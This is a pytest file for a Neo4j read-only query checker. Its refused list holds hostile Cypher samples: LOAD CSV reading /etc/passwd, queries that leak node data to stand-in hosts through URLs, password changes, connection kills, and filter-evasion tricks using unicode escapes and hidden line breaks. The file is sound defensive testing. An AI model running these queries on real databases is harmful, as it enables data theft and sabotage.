"""What a query on a server may not do without --write, however it is spelled."""

from __future__ import annotations

import pytest

from hin.stores.neo4j.read_only import NotReadOnly, check_words

#: What ends a line in Python's eyes, or looks like a space, and is neither `\n` nor `\r` nor a space.
ENDS = "\x0b\x0c\x1c\x1d\x1e\x85\u2028\u2029\u00a0\u200b\ufeff\0"
REFUSED = [
    "LOAD CSV FROM 'http://example.org/x' AS row RETURN row",
    "MATCH (n) LOAD /* x */ CSV WITH HEADERS FROM 'http://x/' + n.name AS row RETURN row",
    "MATCH (n) CALL (n) { LOAD\nCSV FROM 'file:///etc/passwd' AS l RETURN l } RETURN l",
    "load csv from 'x' as row return 1",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "SHOW TRANSACTIONS YIELD transactionId AS t TERMINATE TRANSACTION t YIELD message RETURN message",
    "CALL dbms.killConnection('bolt-1')",
    "CALL db.clearQueryCaches()",
    "CALL db.clearQueryCaches",
    "CALL `db`.`clearQueryCaches`()",
    "CALL `db.clearQueryCaches`()",
    "CALL apoc.load.json('http://example.org') YIELD value RETURN value",
    "MATCH (n) CALL apoc.export.csv.all('x', {}) YIELD file RETURN file",
    "CALL dbms.listConfig()",
    "RETURN apoc.util.sha1(['a'])",
    "MATCH (n) RETURN genai.vector.encode(n.name, 'OpenAI', {})",
    "RETURN `genai`.vector.encode('x')",
    "SHOW USERS",
    "SHOW SETTINGS",
    "SHOW TRANSACTIONS",
    "EXPLAIN DROP INDEX x",
    "ALTER USER neo4j SET PASSWORD 'x'",
    "CYPHER 25 GRANT ROLE reader TO x",
    "STOP DATABASE neo4j",
    "RETURN '\\u0027 AS x LOAD CSV FROM \\'http://x\\' AS r RETURN r //'",
    "\\u004cOAD CSV FROM 'x' AS r RETURN r",
    "MATCH (n) WITH n // \\u000aLOAD CSV FROM 'http://x/' + n.name AS l RETURN l",
    "MATCH (n) WITH n // \\u000D LOAD CSV FROM 'http://x/' AS l RETURN l",
    "MATCH (n) WITH n // \u2028LOAD CSV FROM 'http://x/' AS l RETURN l",
    "MATCH (n) WITH n LIMIT 1LOAD CSV FROM 'http://x/' AS l RETURN l",
    "MATCH (n) WITH n LOAD\u180eCSV FROM 'http://x/' AS l RETURN l",
    "MATCH (n) WITH n LOAD\ufeffCSV FROM 'http://x/' AS l RETURN l",
    "UNWIND [1] AS as CALL db.clearQueryCaches() YIELD value RETURN value",
    "MATCH (as) WITH as CALL db.clearQueryCaches() YIELD value RETURN value",
    "MATCH (n) RETURN COUNT { CALL db.clearQueryCaches() YIELD value RETURN value }",
    "OPTIONAL CALL db.clearQueryCaches() YIELD value RETURN value",
    "CALL db . /* x */ clearQueryCaches()",
    "CALL where.evil()",
    "RETURN `apoc.util.sha1`(['a'])",
    "USE neo4j SHOW TRANSACTIONS",
    "USE with SHOW TRANSACTIONS",
    "USE graph.byName('neo4j') SHOW SETTINGS",
    "CYPHER 5 planner=cost SHOW SETTINGS",
    "PROFILE USE neo4j ALTER USER neo4j SET PASSWORD 'x'",
    "USING PERIODIC COMMIT LOAD CSV FROM 'x' AS r RETURN r",
    "RETURN [1,2][0..genai.vector.encode('x', 'OpenAI', {})] AS x",
    "RETURN [1,2][0 .. `genai`.vector.encode('x')] AS x",
    "RETURN [1,2][0.genai.vector.encode('x')] AS x",
    "RETURN 'a\\qb' AS x",
    *(f"MATCH (d) WITH d // {c} '\nLOAD CSV FROM 'http://x/' + d.id AS l RETURN l //'" for c in ENDS),
    *(f"RETURN 1 AS x /* {c} */" for c in ENDS),
    *(f"RETURN{c}1 AS x" for c in ENDS),
    "RETURN 1 AS x /* no end",
    "RETURN 'no end",
]
ALLOWED = [
    "MATCH (d:Document) RETURN d.id AS call, 'LOAD CSV' AS x // CALL dbms.killConnection()",
    "MATCH (n) WHERE n.name = 'CALL apoc.x()' RETURN `LOAD CSV`.name /* TERMINATE TRANSACTIONS */",
    "CALL db.labels() YIELD label RETURN label",
    "CALL db.schema.visualization()",
    "MATCH (n) CALL (n) { MATCH (n)-->(m) RETURN count(m) AS c } RETURN c",
    "MATCH (n) CALL { WITH n RETURN 1 AS x } RETURN x",
    "RETURN date('2020-01-01').year, datetime.truncate('day', datetime()), duration.between(date(), date())",
    "SHOW INDEXES",
    "SHOW ALL CONSTRAINTS YIELD name",
    "EXPLAIN MATCH (n) RETURN n",
    "PROFILE MATCH (n) RETURN (n).name, n.load, [x IN n.tokens | x]",
    "CYPHER runtime=pipelined MATCH (n) RETURN n",
    "RETURN '\\u00e9', 'a\\\\b', \"it's\"",
    "MATCH (call:Call) WITH call WHERE call.call IS NOT NULL RETURN call AS CALL ORDER BY CALL LIMIT 1",
    "CYPHER 5 planner=cost runtime=slotted MATCH (n) WHERE n.x > 1.5e3 AND n.y < 0x1F RETURN n",
    "USE neo4j MATCH (n) RETURN n",
    "USE graph.byName('neo4j') MATCH (n) RETURN n",
    "MATCH (n) RETURN [1,2,3][0..size(n.name)], n.a.b, 1_000, n.x$, 'a\u2028b', `a\u2028b`",
    "MATCH (n:`a.b`)-[:`c.d`]->(m) RETURN n.`x.y`, 'naïve – “quoted” 😀' // naïve – 😀",
]


@pytest.mark.parametrize("text", REFUSED)
def test_what_reaches_further_is_refused(text: str) -> None:
    with pytest.raises(NotReadOnly, match="write=True"):
        check_words(text)


@pytest.mark.parametrize("text", ALLOWED)
def test_reading_is_allowed(text: str) -> None:
    check_words(text)
